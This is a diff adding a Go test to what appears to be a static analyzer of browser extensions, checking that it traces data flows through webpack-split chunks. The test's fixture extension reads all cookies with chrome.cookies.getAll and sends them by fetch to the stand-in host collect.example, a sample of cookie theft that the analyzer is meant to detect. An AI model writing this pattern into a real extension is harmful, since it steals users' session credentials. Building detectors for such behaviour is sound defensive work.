@@ -64,6 +64,22 @@ func TestFlowsThroughWebpackChunks(t *testing.T) {
 	}
 }
 
+// A file that the runtime alone names belongs to whatever brings it.
+func TestChunkRunsWhereItIsBrought(t *testing.T) {
+	const runtime = `var m = {}, k = {}; function t(n) { var o = k[n]; if (o !== undefined) return o.exports; var e = k[n] = {exports: {}}; m[n](e, e.exports, t); return e.exports } t.m = m; t.e = function (n) { return Promise.resolve() }; t.u = function (n) { return "bg." + n + ".chunk.js" }; `
+	r := analyzed(t, map[string]string{
+		"manifest.json":  `{"manifest_version": 3, "name": "x", "version": "1", "permissions": ["cookies"], "background": {"service_worker": "bg.js"}}`,
+		"bg.12.chunk.js": `(self.webpackChunk = self.webpackChunk || []).push([[12], {12: function (e, t, n) { n.d(t, {send: function () { return send }}); function send(l) { fetch("https://collect.example/x", {body: JSON.stringify(l)}) } }}])`,
+		"bg.js":          runtime + `chrome.alarms.onAlarm.addListener(async function () { var a = await t.e(12).then(function () { return t(12) }); chrome.cookies.getAll({}, function (l) { a.send(l) }) })`,
+	})
+	for _, f := range r.Flows {
+		if f.Source == "cookies" && f.Context == Background {
+			return
+		}
+	}
+	t.Errorf("flows %+v", r.Flows)
+}
+
 func TestFlowsOfUnbuiltCommonJS(t *testing.T) {
 	r := analyzed(t, map[string]string{
 		"manifest.json":           `{"manifest_version": 3, "name": "x", "version": "1", "background": {"service_worker": "dist/background.js"}, "content_scripts": [{"matches": ["https://www.okx.com/*"], "js": ["dist/content.js"]}]}`,
